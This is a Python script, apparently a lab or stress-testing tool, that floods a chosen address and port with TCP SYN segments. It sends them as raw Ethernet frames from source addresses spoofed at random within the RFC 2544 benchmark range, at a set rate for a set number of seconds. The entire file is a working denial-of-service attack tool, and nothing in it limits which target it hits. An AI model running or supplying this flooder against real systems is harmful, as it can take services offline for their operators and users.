#!/usr/bin/python3
"""A flood of SYNs from made-up sources, sent as frames.

usage: flood.py INTERFACE TO-MAC TO-ADDRESS DPORT RATE SECONDS

Sources are in 198.18.0.0/15 (RFC 2544), where answers lead nowhere. Prints how many were sent.
"""

import random
import socket
import sys
import time

from packet import SYN, TCP, ethernet, ipv4, tcp


def main(interface, mac, to, dport, rate, seconds):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    wire.bind((interface, 0))
    chance = random.Random(7)
    begin = time.monotonic()
    sent = 0
    while (now := time.monotonic() - begin) < seconds:
        # As many as are due by now, so that a slow moment is made up for.
        for _ in range(max(1, int(rate * now) - sent)):
            source = f"198.{chance.choice((18, 19))}.{chance.randrange(256)}.{chance.randrange(1, 255)}"
            segment = tcp(source, to, chance.randrange(1024, 65536), dport, SYN, seq=chance.getrandbits(32))
            try:
                wire.send(ethernet(mac, "02:00:00:00:f1:00", ipv4(source, to, TCP, segment)))
            except OSError:
                pass  # No room for now: the frame is lost, as others are.
            sent += 1
        time.sleep(0.002)
    print(sent)


if __name__ == "__main__":
    arguments = sys.argv[1:]
    main(*arguments[:3], int(arguments[3]), float(arguments[4]), float(arguments[5]))
